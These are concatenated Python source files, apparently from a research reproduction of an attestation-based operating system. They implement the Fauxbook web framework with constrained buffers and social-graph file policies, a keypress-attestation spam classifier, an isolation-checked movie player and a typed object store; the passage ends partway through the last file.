    def request(self, method: str, path: str,
                headers: Optional[Dict[str, str]] = None,
                body: bytes = b"") -> HTTPResponse:
        """Drive one request through the pipeline as wire bytes."""
        raw = HTTPRequest(method, path, headers or {}, body).to_bytes()
        raw_response = self.kernel.ipc_call(self._client.pid,
                                            self.server_port.port_id, raw)
        from repro.net.http import parse_response
        return parse_response(raw_response)

    def _handle_raw(self, raw: bytes) -> bytes:
        request = parse_request(raw)
        try:
            response = self.router.dispatch(request)
        except AccessDenied as exc:
            response = HTTPResponse(403, str(exc).encode())
        except NoSuchResource:
            response = HTTPResponse(404, b"not found")
        return response.to_bytes()

    def _build_router(self) -> Router:
        """The stack's route table, plus the mounted attestation API.

        Framework failures map to 400 (bad client input); denials and
        missing resources escape to :meth:`_handle_raw` as 403/404.  The
        Router itself supplies 404 for unknown paths and 405 (with an
        ``Allow`` header) for known paths under the wrong method.
        """
        def app(handler):
            def wrapped(request: HTTPRequest) -> HTTPResponse:
                try:
                    return handler(request)
                except AppError as exc:
                    return HTTPResponse(400, str(exc).encode())
            return wrapped

        def signup(request: HTTPRequest) -> HTTPResponse:
            user, _, password = request.body.decode().partition(":")
            self.framework.create_user(user, password)
            return HTTPResponse(201, b"created")

        def login(request: HTTPRequest) -> HTTPResponse:
            user, _, password = request.body.decode().partition(":")
            token = self.framework.login(user, password)
            return HTTPResponse(200, token.encode())

        def friend(request: HTTPRequest) -> HTTPResponse:
            token = request.headers.get("X-Session", "")
            self.framework.add_friend(token, request.body.decode())
            return HTTPResponse(200, b"friended")

        def status(request: HTTPRequest) -> HTTPResponse:
            token = request.headers.get("X-Session", "")
            key = self.framework.post_status(token, request.body)
            return HTTPResponse(201, key.encode())

        def wall(request: HTTPRequest) -> HTTPResponse:
            token = request.headers.get("X-Session", "")
            wall_owner = request.path[len("/wall/"):]
            try:
                page = self.framework.read_feed(token, wall_owner)
            except Exception as exc:
                return HTTPResponse(403, str(exc).encode())
            return HTTPResponse(200, page)

        router = Router()
        router.add("GET", "/static/", lambda request: self._serve_static(
            request.path[len("/static"):]))
        router.add("GET", "/python/", lambda request: self._serve_dynamic(
            request.path[len("/python"):]))
        router.add("POST", "/signup", app(signup), exact=True)
        router.add("POST", "/login", app(login), exact=True)
        router.add("POST", "/friend", app(friend), exact=True)
        router.add("POST", "/status", app(status), exact=True)
        router.add("GET", "/wall/", wall)
        self.api.install_routes(router)
        return router

    def _authorize_static(self, path: str) -> None:
        resource_id = self._static_resource_ids.get(path)
        if resource_id is None:
            raise NoSuchResource(f"no such static file {path}")
        decision = self.kernel.authorize(self._client.pid, "serve",
                                         resource_id)
        if not decision.allow:
            raise AccessDenied(f"serve {path} denied: {decision.reason}")

    def _serve_static(self, path: str) -> HTTPResponse:
        self._authorize_static(path)
        return HTTPResponse(200, self._read_static(path))

    def _serve_dynamic(self, path: str) -> HTTPResponse:
        """The Python row of Figure 8: content flows through the tenant
        runtime (template work around the same file read)."""
        self._authorize_static(path)
        content = self._read_static(path)
        page = (b"<html><body>" + content + b"</body></html>")
        return HTTPResponse(200, page)
