"""The Fauxbook web framework (§4.1).

The framework is cloud-provider infrastructure, generic across tenants. It
guarantees (1) user management and session authentication, (2) exclusive
custody of authentication state, (3) correct dispatch to tenant handlers,
and (4) that tenant code cannot leak user data except as users authorize.
(1)–(3) are framework code below; (4) is the combination of the sandbox
loader (analysis + rewriting) and the cobuf interface.

Embedded authorities expose the current session user
(``name.webserver says user = alice``) and friend edges
(``name.python says alice in bob.friends``) so that file goal formulas
can reference live framework state without revocable credentials.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.analysis.rewriter import ReflectionRewriter
from repro.apps.fauxbook.cobuf import Cobuf, CobufSpace, DeclassifyToken
from repro.crypto.hashes import sha256
from repro.errors import AppError, SandboxViolation
from repro.kernel.authority import Authority
from repro.nal.formula import Compare, Formula, Pred, Says
from repro.nal.terms import Const, Name


class SocialGraph:
    """Users and friend edges. Edges are created only by authenticated
    user action (guarantee 1 of the §4.1 graph properties)."""

    def __init__(self):
        self._users: Set[str] = set()
        self._edges: Set[frozenset] = set()

    def add_user(self, user: str) -> None:
        self._users.add(user)

    def has_user(self, user: str) -> bool:
        return user in self._users

    def add_edge(self, a: str, b: str) -> None:
        if a not in self._users or b not in self._users:
            raise AppError("both endpoints must be registered users")
        if a == b:
            raise AppError("self-edges are meaningless")
        self._edges.add(frozenset((a, b)))

    def friends(self, a: str, b: str) -> bool:
        return frozenset((a, b)) in self._edges

    def friends_of(self, user: str) -> List[str]:
        out = []
        for edge in self._edges:
            if user in edge:
                out.extend(u for u in edge if u != user)
        return sorted(out)

    def speaks_for(self, dest: str, src: str) -> bool:
        """May data owned by ``src`` flow to ``dest``?"""
        return dest == src or self.friends(dest, src)


class SessionAuthority(Authority):
    """The web-server-embedded authority: attests the current session
    user. ``name.webserver says user = alice`` (§4.1).

    "Only the web framework can update the value of the current user":
    when a request context is active, the statement holds exactly for
    that request's user; outside a request it falls back to any live
    session (useful for coarse policies and benchmarks).
    """

    def __init__(self, framework: "WebFramework"):
        self.framework = framework

    def decides(self, formula: Formula) -> Optional[bool]:
        if not isinstance(formula, Says):
            return None
        if str(formula.speaker) != "name.webserver":
            return None
        body = formula.body
        if (isinstance(body, Compare) and body.op == "=="
                and isinstance(body.left, Name) and body.left.name == "user"):
            user = _term_text(body.right)
            current = self.framework.current_request_user
            if current is not None:
                return user == current
            return user in self.framework.active_users()
        return None


class FriendAuthority(Authority):
    """The Python-embedded authority: attests friend edges by
    introspecting the (publicly readable) friend file.
    ``name.python says alice in bob.friends`` (§4.1). The special reader
    ``CurrentUser`` resolves through the framework's request context."""

    def __init__(self, graph: SocialGraph,
                 framework: Optional["WebFramework"] = None):
        self.graph = graph
        self.framework = framework

    def decides(self, formula: Formula) -> Optional[bool]:
        if not isinstance(formula, Says):
            return None
        if str(formula.speaker) != "name.python":
            return None
        body = formula.body
        if isinstance(body, Pred) and body.name == "in" and len(body.args) == 2:
            reader = _term_text(body.args[0])
            if reader == "CurrentUser":
                if (self.framework is None
                        or self.framework.current_request_user is None):
                    return False
                reader = self.framework.current_request_user
            target = str(body.args[1])
            if target.endswith(".friends"):
                owner = target[:-len(".friends")]
                return self.graph.friends(reader, owner)
        return None


def _term_text(term) -> str:
    if isinstance(term, Const):
        return str(term.value)
    return str(term)


@dataclass
class Session:
    token: str
    user: str


class _RequestContext:
    """Scopes ``current_request_user``; nested requests are not a thing
    in this single-threaded simulation, so plain save/restore suffices."""

    def __init__(self, framework: "WebFramework", user: str):
        self._framework = framework
        self._user = user
        self._saved: Optional[str] = None

    def __enter__(self):
        self._saved = self._framework.current_request_user
        self._framework.current_request_user = self._user
        return self._user

    def __exit__(self, *exc_info):
        self._framework.current_request_user = self._saved
        return False


class WebFramework:
    """The generic application server tier."""

    def __init__(self, tenant_source: Optional[str] = None):
        self.graph = SocialGraph()
        self.cobufs = CobufSpace(speaks_for=self.graph.speaks_for)
        self._declassify = DeclassifyToken()
        self._passwords: Dict[str, bytes] = {}
        self._sessions: Dict[str, Session] = {}
        self._session_counter = 0
        #: The user of the request being served; settable only here.
        self.current_request_user: Optional[str] = None
        self.session_authority = SessionAuthority(self)
        self.friend_authority = FriendAuthority(self.graph, framework=self)
        self._tenant_ns: Optional[dict] = None
        if tenant_source is not None:
            self.load_tenant(tenant_source)

    def request_context(self, token: str) -> "_RequestContext":
        """Bind the current-request user for the duration of a request."""
        return _RequestContext(self, self.session_user(token))

    # -- guarantee (1): user management -------------------------------------

    def create_user(self, user: str, password: str) -> None:
        if user in self._passwords:
            raise AppError(f"user {user!r} already exists")
        self._passwords[user] = sha256(f"{user}:{password}")
        self.graph.add_user(user)

    def login(self, user: str, password: str) -> str:
        expected = self._passwords.get(user)
        if expected is None or expected != sha256(f"{user}:{password}"):
            raise AppError("authentication failed")
        self._session_counter += 1
        token = sha256(f"session:{user}:{self._session_counter}").hex()[:24]
        self._sessions[token] = Session(token=token, user=user)
        return token

    def logout(self, token: str) -> None:
        self._sessions.pop(token, None)

    def session_user(self, token: str) -> str:
        session = self._sessions.get(token)
        if session is None:
            raise AppError("invalid session")
        return session.user

    def active_users(self) -> Set[str]:
        return {s.user for s in self._sessions.values()}

    # -- friend management (user-initiated, never tenant-initiated) -----------

    def add_friend(self, token: str, other: str) -> None:
        """A legitimate friend addition: invoked by the *user* through the
        authentication library, which creates the speaksfor edge."""
        user = self.session_user(token)
        if not self.graph.has_user(other):
            raise AppError(f"no such user {other!r}")
        self.graph.add_edge(user, other)

    # -- tenant code -----------------------------------------------------------

    def load_tenant(self, source: str) -> None:
        """Run tenant code through the two labeling functions (analysis +
        rewriting) and bind it to the constrained API surface."""
        rewriter = ReflectionRewriter()
        api = {
            "cobuf_store": self.cobufs.store,
            "cobuf_retrieve": self.cobufs.retrieve,
            "cobuf_collate": self.cobufs.collate,
            "cobuf_keys": self.cobufs.keys_under,
            "cobuf_exists": self.cobufs.exists,
        }
        self._tenant_ns = rewriter.load_tenant(source, extra_globals=api)

    def tenant_call(self, function: str, *args):
        if self._tenant_ns is None or function not in self._tenant_ns:
            raise AppError(f"tenant does not export {function!r}")
        return self._tenant_ns[function](*args)

    # -- request dispatch (guarantee 3) ---------------------------------------------

    def post_status(self, token: str, body: bytes) -> str:
        """Ingest a status update: the *framework* tags the cobuf with the
        session owner — the owner identifier is attached at this layer, so
        tenants cannot forge ownership (§4.1)."""
        user = self.session_user(token)
        tagged = self.cobufs.tag(body, owner=user)
        key = self.tenant_call("handle_post", user, tagged)
        return key

    def read_feed(self, token: str, wall_owner: str) -> bytes:
        """Render a user's wall for the requesting session.

        The tenant assembles the page as a cobuf collated *to the
        requesting user*; collation succeeds only along social-graph
        edges. Declassification for rendering happens here, with the
        framework capability, to the authenticated session only.
        """
        reader = self.session_user(token)
        page = self.tenant_call("render_wall", reader, wall_owner)
        if not isinstance(page, Cobuf):
            raise AppError("tenant must return a cobuf")
        if page.owner != reader:
            raise AppError("tenant returned a page not owned by the reader")
        return page.reveal(self._declassify)
