"""Fauxbook: the privacy-preserving social network of §4.1."""

from repro.apps.fauxbook.cobuf import Cobuf, CobufSpace, DeclassifyToken
from repro.apps.fauxbook.framework import (
    FriendAuthority,
    SessionAuthority,
    SocialGraph,
    WebFramework,
)
from repro.apps.fauxbook.app import (
    EVIL_TENANT_SOURCE,
    FAUXBOOK_TENANT_SOURCE,
    ILLEGAL_TENANT_SOURCE,
    ResourceAttestor,
)
from repro.apps.fauxbook.stack import FauxbookStack
from repro.apps.fauxbook.storage import FauxbookStorage

__all__ = [
    "Cobuf", "CobufSpace", "DeclassifyToken",
    "FriendAuthority", "SessionAuthority", "SocialGraph", "WebFramework",
    "EVIL_TENANT_SOURCE", "FAUXBOOK_TENANT_SOURCE", "ILLEGAL_TENANT_SOURCE",
    "ResourceAttestor",
    "FauxbookStack", "FauxbookStorage",
]
