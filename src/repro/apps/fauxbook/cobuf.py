"""Cobufs — constrained buffers (§4.1, Confidentiality Guarantees).

A cobuf is an attributed byte buffer: data plus the principal that owns
it. Tenant code may **store, retrieve, concatenate, and slice** cobufs but
can never inspect their contents; contents may only be *collated into* a
cobuf whose owner speaks for the source's owner (per the social graph).
The interface deliberately omits data-dependent branching, so it is not
Turing-complete — which is precisely the confinement argument: Fauxbook's
functionality is data-independent, so opaque blobs suffice.

Revealing bytes (to render a page to their owner) requires the framework's
declassification capability, which tenant code never receives.
"""

from __future__ import annotations

import itertools
from typing import Callable, Dict, List, Optional

from repro.errors import CobufError

#: Signature of the delegation test: may ``dest_owner`` see data owned by
#: ``src_owner``? Fauxbook wires this to the social graph.
SpeaksForFn = Callable[[str, str], bool]


class DeclassifyToken:
    """An unforgeable capability for reading cobuf contents.

    Only the web framework holds one; tenant namespaces never see it.
    """

    __slots__ = ()


class Cobuf:
    """One constrained buffer. Construct through :class:`CobufSpace`."""

    _ids = itertools.count(1)

    def __init__(self, data: bytes, owner: str, space: "CobufSpace"):
        self._data = bytes(data)
        self.owner = owner
        self._space = space
        self.cobuf_id = next(Cobuf._ids)

    # -- permitted, content-oblivious operations -------------------------------

    def __len__(self) -> int:
        return len(self._data)

    def slice(self, start: int, stop: int) -> "Cobuf":
        """A sub-range, same owner. No content is revealed."""
        return Cobuf(self._data[start:stop], self.owner, self._space)

    def concat(self, other: "Cobuf") -> "Cobuf":
        """Concatenate two buffers *of the same owner*."""
        if other.owner != self.owner:
            raise CobufError(
                "concat across owners requires collate() and a "
                "speaksfor relationship")
        return Cobuf(self._data + other._data, self.owner, self._space)

    # -- forbidden accesses ------------------------------------------------------

    @property
    def data(self) -> bytes:
        raise CobufError("cobuf contents are not inspectable by tenants")

    def __bytes__(self):
        raise CobufError("cobuf contents are not inspectable by tenants")

    def __iter__(self):
        raise CobufError("cobuf contents are not iterable by tenants")

    def __getitem__(self, item):
        raise CobufError("cobuf contents are not indexable by tenants")

    def __eq__(self, other):
        # Content comparison would leak data one bit at a time.
        return self is other

    def __hash__(self):
        return hash(self.cobuf_id)

    # -- privileged access --------------------------------------------------------

    def reveal(self, token: DeclassifyToken) -> bytes:
        """Framework-only: declassify for rendering to the owner."""
        if not isinstance(token, DeclassifyToken):
            raise CobufError("invalid declassification capability")
        return self._data


class CobufSpace:
    """The framework's cobuf service: creation, storage, collation.

    The owner identifier is attached at the web-server layer on a session
    basis (§4.1), so tenant code "cannot forge cobufs on behalf of a
    user": tenants receive already-tagged cobufs and can only combine them
    under the speaksfor rule.
    """

    def __init__(self, speaks_for: SpeaksForFn):
        self._speaks_for = speaks_for
        self._store: Dict[str, Cobuf] = {}
        self.collations = 0

    # -- creation (framework-level; tenants never call this directly) -----------

    def tag(self, data: bytes, owner: str) -> Cobuf:
        return Cobuf(data, owner, self)

    # -- storage ---------------------------------------------------------------------

    def store(self, key: str, cobuf: Cobuf) -> None:
        if not isinstance(cobuf, Cobuf):
            raise CobufError("only cobufs may be stored in the cobuf space")
        self._store[key] = cobuf

    def retrieve(self, key: str) -> Cobuf:
        cobuf = self._store.get(key)
        if cobuf is None:
            raise CobufError(f"no cobuf stored under {key!r}")
        return cobuf

    def exists(self, key: str) -> bool:
        return key in self._store

    def keys_under(self, prefix: str) -> List[str]:
        return sorted(k for k in self._store if k.startswith(prefix))

    # -- collation ---------------------------------------------------------------------

    def collate(self, dest_owner: str, parts: List[Cobuf],
                separator: bytes = b"") -> Cobuf:
        """Merge buffers into a cobuf owned by ``dest_owner``.

        Permitted only when the destination owner speaks for every source
        owner — i.e. the social graph authorizes each flow (§4.1: "cobuf
        contents may only be collated if the recipient cobuf's owner
        speaks for the owner of the cobuf from which the data is
        copied").
        """
        for part in parts:
            if not isinstance(part, Cobuf):
                raise CobufError("collate takes cobufs only")
            if not self._speaks_for(dest_owner, part.owner):
                raise CobufError(
                    f"flow from {part.owner} to {dest_owner} is not "
                    "authorized by the social graph")
        self.collations += 1
        merged = separator.join(part._data for part in parts)
        return Cobuf(merged, dest_owner, self)
