"""Fauxbook's file-level policies (§4.1, final paragraphs).

"Fauxbook stores user data in the Nexus filesystem. Goal formulas
associated with each file constrain user access in accordance with the
social graph. ... each operation on each file in this directory has a
policy: private, public, or friends. Private data of user Alice is only
accessible if an authority embedded in the web server attests to the
label ``name.webserver says user = alice``. Alice can only read the files
of her friend Bob if an embedded authority attests to the label
``name.python says alice in bob.friends``."

This module attaches exactly those goals to
:class:`~repro.fs.FileServer` files. Proofs are built from
:class:`~repro.nal.proof.AuthorityQuery` leaves over the framework's
embedded authorities, resolved against the *current request's* user —
dynamic state, so none of these decisions is ever cached.
"""

from __future__ import annotations

from typing import Literal

from repro.apps.fauxbook.framework import WebFramework
from repro.errors import AccessDenied, AppError
from repro.fs.ramfs import FileServer
from repro.kernel.kernel import NexusKernel
from repro.nal.formula import Formula, Or, TrueFormula
from repro.nal.parser import parse
from repro.nal.proof import AuthorityQuery, Proof, ProofBundle, Rule

Policy = Literal["private", "public", "friends"]

SESSION_PORT = "webserver-user"
FRIENDS_PORT = "python-friends"


class FauxbookStorage:
    """Per-user files in the Nexus filesystem under social policies."""

    def __init__(self, kernel: NexusKernel, fs: FileServer,
                 framework: WebFramework):
        self.kernel = kernel
        self.fs = fs
        self.framework = framework
        kernel.register_authority(SESSION_PORT, framework.session_authority)
        kernel.register_authority(FRIENDS_PORT, framework.friend_authority)
        self.process = kernel.create_process("fauxbook-storage",
                                             image=b"fauxbook-storage")

    # -- paths -----------------------------------------------------------------

    @staticmethod
    def _path(owner: str, name: str) -> str:
        return f"/fauxbook/{owner}/{name}"

    # -- writing (always via an authenticated session) ---------------------------

    def store(self, token: str, name: str, data: bytes,
              policy: Policy = "private") -> str:
        owner = self.framework.session_user(token)
        path = self._path(owner, name)
        self.fs.raw_write(path, data, owner_pid=self.process.pid)
        resource_id = self.fs.resource_id(path)
        self.kernel.sys_setgoal(self.process.pid, resource_id, "read",
                                self._goal_for(policy, owner))
        return path

    @staticmethod
    def _goal_for(policy: Policy, owner: str) -> str:
        session = f'name.webserver says user = "{owner}"'
        friend = f"name.python says CurrentUser in {owner}.friends"
        if policy == "public":
            return "true"
        if policy == "private":
            return session
        if policy == "friends":
            return f"({session}) or ({friend})"
        raise AppError(f"unknown policy {policy!r}")

    # -- reading ------------------------------------------------------------------

    def read(self, token: str, owner: str, name: str) -> bytes:
        """Read on behalf of a session, assembling the authority-backed
        proof the policy demands, inside the request context."""
        reader = self.framework.session_user(token)
        path = self._path(owner, name)
        resource_id = self.fs.resource_id(path)
        entry = self.kernel.default_guard.goals.get(resource_id, "read")
        with self.framework.request_context(token):
            bundle = None
            if entry is not None:
                proof = self._prove(entry.formula, reader, owner)
                if proof is not None:
                    bundle = ProofBundle(proof)
            decision = self.kernel.authorize(self.process.pid, "read",
                                             resource_id, bundle)
        if not decision.allow:
            raise AccessDenied(
                f"{reader} may not read {path}: {decision.reason}")
        return self.fs.raw_read(path)

    def _prove(self, goal: Formula, reader: str,
               owner: str) -> Proof | None:
        """Build the proof for each policy shape."""
        if isinstance(goal, TrueFormula):
            return None  # public: the guard allows without a proof
        session = parse(f'name.webserver says user = "{owner}"')
        if goal == session:
            return AuthorityQuery(session, SESSION_PORT)
        if isinstance(goal, Or):
            if reader == owner:
                return Rule("or_intro_l",
                            (AuthorityQuery(goal.left, SESSION_PORT),),
                            goal)
            return Rule("or_intro_r",
                        (AuthorityQuery(goal.right, FRIENDS_PORT),),
                        goal)
        return None
