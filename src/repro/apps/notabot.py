"""Not-a-Bot (§4): human-presence attestation against spam.

The keyboard driver counts physical keypresses and, on request, issues a
TPM-backed certificate attesting the count over a window. A mail client
attaches that certificate to outgoing messages; the receiving spam
classifier uses it as a feature — mail composed with zero keypresses from
an attested driver is almost certainly a bot.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.crypto.certs import CertificateChain
from repro.kernel.kernel import NexusKernel
from repro.kernel.labelstore import Label
from repro.nal.parser import parse


class KeyboardDriver:
    """A user-level keyboard driver that witnesses physical keypresses."""

    def __init__(self, kernel: NexusKernel):
        self.kernel = kernel
        self.process = kernel.create_process("kbd-driver",
                                             image=b"kbd-driver")
        self._window_presses = 0
        self._window = 0

    def physical_keypress(self, count: int = 1) -> None:
        """Called from the (simulated) interrupt path: real keys only."""
        self._window_presses += count

    def new_window(self) -> int:
        """Start a new attestation window (e.g. one mail composition)."""
        self._window += 1
        self._window_presses = 0
        return self._window

    def attest_presence(self) -> Label:
        """Issue ``kbd says keypresses(window, n)`` for the current window.

        The driver speaks only about what it witnessed; the label enters
        the labelstore over the secure syscall channel.
        """
        return self.kernel.sys_say(
            self.process.pid,
            f"keypresses({self._window}, {self._window_presses})")


@dataclass
class Email:
    sender: str
    body: str
    presence_chain: Optional[CertificateChain] = None


class MailClient:
    """Composes mail; keystrokes flow through the attested driver."""

    def __init__(self, kernel: NexusKernel, driver: KeyboardDriver,
                 sender: str):
        self.kernel = kernel
        self.driver = driver
        self.sender = sender

    def compose(self, body: str, typed: bool = True) -> Email:
        """Compose a message; ``typed=False`` models a bot injecting text
        without touching the keyboard."""
        self.driver.new_window()
        if typed:
            self.driver.physical_keypress(len(body))
        label = self.driver.attest_presence()
        chain = self.kernel.externalize_label(label)
        return Email(sender=self.sender, body=body, presence_chain=chain)


class SpamClassifier:
    """A receiving MTA's classifier with the presence feature."""

    def __init__(self, root_key, base_threshold: float = 0.5):
        self.root_key = root_key
        self.base_threshold = base_threshold

    def presence_score(self, email: Email) -> float:
        """0.0 = definitely automated; 1.0 = strongly human."""
        if email.presence_chain is None:
            return 0.0
        try:
            chain = CertificateChain(root_key=self.root_key,
                                     certs=email.presence_chain.certs)
            chain.verify()
        except Exception:
            return 0.0
        statement = parse(chain.leaf().statement)
        # kbd says keypresses(window, n)
        body = statement.body
        presses = int(body.args[1].value)
        if presses == 0:
            return 0.0
        return min(1.0, presses / max(1, len(email.body)))

    def classify(self, email: Email) -> str:
        score = self.presence_score(email)
        content_penalty = 0.4 if "FREE MONEY" in email.body.upper() else 0.0
        spamminess = (1.0 - score) * 0.7 + content_penalty
        return "spam" if spamminess >= self.base_threshold else "ham"
