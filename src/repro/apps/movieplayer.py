"""The movie-player application (§4, Other Applications).

The anti-lock-down demo: a content owner streams high-value content to
*any* player that can demonstrate — via the IPC connectivity analyzer —
that it lacks channels to the disk and the network. No whitelist of player
hashes; the player's hash need not even be divulged. Users keep their
choice of binaries, the owner keeps their leak-freedom property.
"""

from __future__ import annotations

from typing import List, Optional

from repro.analysis.ipc_analyzer import IPCConnectivityAnalyzer
from repro.core.credentials import CredentialSet
from repro.errors import AccessDenied
from repro.kernel.kernel import NexusKernel
from repro.kernel.process import Process
from repro.nal.parser import parse
from repro.nal.proof import ProofBundle

#: The services a conforming player must provably not reach.
LEAK_TARGETS = ("fs-server", "net-driver")


class ContentServer:
    """The content owner's distribution point."""

    def __init__(self, kernel: NexusKernel,
                 analyzer: IPCConnectivityAnalyzer,
                 movie: bytes = b"FRAME" * 64):
        self.kernel = kernel
        self.analyzer = analyzer
        self.movie = movie
        self.process = kernel.create_process("content-server",
                                             image=b"content-server")
        self.resource = kernel.resources.create(
            "/content/movie", "stream", self.process.principal,
            payload=movie)
        goal = (f"{self.analyzer.process.path} says "
                f"(not hasPath(?Subject, {LEAK_TARGETS[0]}) and "
                f"not hasPath(?Subject, {LEAK_TARGETS[1]}))")
        kernel.sys_setgoal(self.process.pid, self.resource.resource_id,
                           "stream", goal)

    def stream_to(self, player: Process,
                  bundle: Optional[ProofBundle]) -> bytes:
        """Stream iff the player's proof discharges the isolation goal."""
        return self.kernel.guarded_call(
            player.pid, "stream", self.resource.resource_id,
            lambda: self.movie, bundle=bundle)


class MoviePlayer:
    """A user's player of choice; any binary will do if it analyzes clean."""

    def __init__(self, kernel: NexusKernel, name: str = "my-player",
                 image: bytes = b"vlc-like-player"):
        self.kernel = kernel
        self.process = kernel.create_process(name, image=image)
        self.received: Optional[bytes] = None

    def request_stream(self, server: ContentServer,
                       analyzer: IPCConnectivityAnalyzer) -> bytes:
        """Acquire isolation labels and present them with a proof."""
        labels = analyzer.certify_isolation(self.process.pid,
                                            list(LEAK_TARGETS))
        if labels is None:
            raise AccessDenied(
                "the analyzer found a channel to the disk or network; "
                "no label can be produced")
        wallet = CredentialSet(labels)
        goal = parse(
            f"{analyzer.process.path} says "
            f"(not hasPath({self.process.path}, {LEAK_TARGETS[0]}) and "
            f"not hasPath({self.process.path}, {LEAK_TARGETS[1]}))")
        bundle = wallet.bundle_for(goal)
        self.received = server.stream_to(self.process, bundle)
        return self.received
