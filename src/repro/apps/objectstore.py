"""The typed object store (§4): transitive integrity verification.

The paper's Java object store: deserialization is slow because type
invariants must be re-checked on every byte of untrusted input — unless
the downloader can be assured the producer was another typesafe runtime
upholding the same invariants, in which case sanity checking can be
skipped. We model a record store with a schema; the fast path engages only
when a credential ``TypeCertifier says typesafe(producer)`` verifies.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from repro.core.credentials import CredentialSet
from repro.crypto.hashes import sha256
from repro.errors import AppError, IntegrityError
from repro.nal.formula import Formula
from repro.nal.parser import parse

_TYPE_TABLE = {"int": int, "str": str, "bool": bool, "float": float}

#: Where published store images live in the kernel resource tree, and
#: the guarded operation the policy plane protects.
STORE_RESOURCE_PREFIX = "/stores/"
STORE_IMPORT_OPERATION = "import"
STORE_POLICY_NAME = "typed-object-store"


def store_policy(certifier: str = "TypeCertifier",
                 prefix: str = STORE_RESOURCE_PREFIX):
    """The store's access policy as one declarative PolicySet.

    A single rule over every ``store`` resource under ``prefix``: the
    ``import`` fast path demands ``certifier says typesafe(<producer>)``,
    where the producer is recovered from the resource name via the
    ``{basename}`` template placeholder (``/stores/jvm`` → ``jvm``).
    One declaration covers every store ever published — the per-store
    ``setgoal`` sequence this replaces grew linearly with producers.
    """
    from repro.policy import PolicyRule, PolicySet, Selector
    return PolicySet(
        name=STORE_POLICY_NAME,
        description="transitive-integrity fast path for typed stores",
        rules=(PolicyRule(
            selector=Selector(prefix=prefix, kind="store"),
            operations=(STORE_IMPORT_OPERATION,),
            goal=f"{certifier} says typesafe({{basename}})"),))


def install_store_policy(kernel, pid: int,
                         certifier: str = "TypeCertifier",
                         prefix: str = STORE_RESOURCE_PREFIX) -> int:
    """Declare + apply the store policy; returns the stored version."""
    version = kernel.policies.put(store_policy(certifier, prefix))
    kernel.policies.apply(pid, STORE_POLICY_NAME, version)
    return version


def publish_store(kernel, pid: int, image: "StoreImage",
                  prefix: str = STORE_RESOURCE_PREFIX):
    """Register an importable store image as a guarded kernel resource.

    The resource is named for its producer, then the declared PolicySet
    is re-applied so the new store is governed immediately.
    """
    owner = kernel.processes.get(pid).principal
    name = f"{prefix}{image.producer}"
    resource = kernel.resources.find(name)
    if resource is None:
        resource = kernel.resources.create(name, "store", owner,
                                           payload=image)
    kernel.policies.apply(pid, STORE_POLICY_NAME)
    return resource


def _wallet_proof(kernel, pid: int, resource):
    """Build the subject's proof for the store goal from its labelstore."""
    from repro.core.attestation import kernel_wallet_bundle
    return kernel_wallet_bundle(kernel, pid, STORE_IMPORT_OPERATION,
                                resource)


def federated_certifier(peer_name: str, bundle) -> str:
    """The speaker a *remote* certifier appears as after admission.

    When kernel A's certifier (``/proc/ipd/N``) is admitted on kernel B
    under peer alias ``peer_name``, its statements are re-attributed to
    the alias-qualified principal ``<peer_name>.</proc/ipd/N>`` — this is
    the name B's store policy must demand.  ``bundle`` is the exported
    :class:`~repro.federation.bundle.CredentialBundle` (or its wire
    dict) carrying the certifier's subject path.
    """
    subject = bundle["subject"] if isinstance(bundle, dict) else \
        bundle.subject
    return f"{peer_name}.{subject}"


def import_federated(image: StoreImage, schema: Schema, kernel,
                     bundle, prefix: str = STORE_RESOURCE_PREFIX
                     ) -> "TypedObjectStore":
    """The two-kernel §4 flow: producer attestation minted on kernel A
    authorizes the fast path on kernel B.

    ``bundle`` is the certifier's credential bundle exported from the
    *producing* kernel (or the digest of an earlier admission).  The
    importing kernel admits it (verifying the TPM-rooted chains against
    its peer registry) and runs the ordinary guarded import as the
    admitted principal — so a remote attestation and a local credential
    take the same Figure-1 path and select the same fast/slow verdict.
    A deny is data, not an error: it selects the slow path.
    """
    body = TypedObjectStore._decode_image(image, schema)
    store = TypedObjectStore(schema, producer=image.producer)
    resource = kernel.resources.lookup(f"{prefix}{image.producer}")
    decision = kernel.authorize_remote(bundle, STORE_IMPORT_OPERATION,
                                       resource.resource_id)
    return TypedObjectStore._populate(store, body["records"],
                                      bool(decision.allow))


@dataclass(frozen=True)
class Schema:
    """Field name → type name; the invariant both runtimes enforce."""

    fields: Tuple[Tuple[str, str], ...]

    @staticmethod
    def of(**fields: str) -> "Schema":
        for type_name in fields.values():
            if type_name not in _TYPE_TABLE:
                raise AppError(f"unknown schema type {type_name!r}")
        return Schema(tuple(sorted(fields.items())))

    def validate(self, record: Dict[str, Any]) -> None:
        """The slow path: check every field of every record."""
        expected = dict(self.fields)
        if set(record) != set(expected):
            raise IntegrityError(
                f"record fields {sorted(record)} != schema "
                f"{sorted(expected)}")
        for name, type_name in expected.items():
            value = record[name]
            if type(value) is not _TYPE_TABLE[type_name]:
                raise IntegrityError(
                    f"field {name!r} has {type(value).__name__}, schema "
                    f"says {type_name}")


@dataclass
class StoreImage:
    """A serialized store: what travels between machines."""

    producer: str
    schema: Schema
    payload: bytes
    digest: bytes

    def verify_digest(self) -> None:
        if sha256(self.payload) != self.digest:
            raise IntegrityError("store image corrupted in transit")


class TypedObjectStore:
    """A store of schema-conforming records with an attested fast path."""

    def __init__(self, schema: Schema, producer: str = "local"):
        self.schema = schema
        self.producer = producer
        self._records: List[Dict[str, Any]] = []
        self.validations = 0  # slow-path work counter (benchmarks read it)

    def put(self, record: Dict[str, Any]) -> None:
        self.schema.validate(record)
        self.validations += 1
        self._records.append(dict(record))

    def records(self) -> List[Dict[str, Any]]:
        return [dict(r) for r in self._records]

    def __len__(self):
        return len(self._records)

    # -- serialization ------------------------------------------------------

    def export(self) -> StoreImage:
        payload = json.dumps(
            {"schema": list(self.schema.fields),
             "records": self._records},
            sort_keys=True).encode()
        return StoreImage(producer=self.producer, schema=self.schema,
                          payload=payload, digest=sha256(payload))

    @staticmethod
    def _decode_image(image: StoreImage, schema: Schema) -> dict:
        """Shared integrity + schema gate for every import path."""
        image.verify_digest()
        body = json.loads(image.payload.decode())
        if tuple(map(tuple, body["schema"])) != schema.fields:
            raise IntegrityError("schema mismatch on import")
        return body

    @staticmethod
    def _populate(store: "TypedObjectStore", records,
                  fast: bool) -> "TypedObjectStore":
        """Fill the store, skipping per-record validation on the fast
        path (transitive integrity, §4)."""
